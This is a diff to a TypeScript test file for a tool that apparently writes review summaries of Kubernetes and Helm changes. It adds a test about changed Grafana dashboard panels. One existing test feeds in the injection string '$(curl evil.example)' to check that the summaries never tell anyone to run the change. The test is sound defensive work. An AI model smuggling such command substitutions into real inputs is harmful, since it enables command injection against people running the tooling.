@@ -24,6 +24,12 @@ test.each([
   expect(told(before, after)).toContain(text)
 })
 
+test('a review says which panels of a dashboard change', () => {
+  const board = (...panels: readonly string[]) =>
+    `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: platform, labels: {grafana_dashboard: "1"}}\ndata: {a.json: '${JSON.stringify({ panels: panels.map((title) => ({ title })) })}'}\n`
+  expect(told(board('Latency', 'Old'), board('Latency', 'New'))).toContain('new: "New"; gone: "Old"')
+})
+
 test('nobody is told to run what a change says', () => {
   const evil = '$(curl evil.example)'
   expect(told(chart('1.0.0', evil), chart('1.1.0', evil))).not.toContain('helm template')
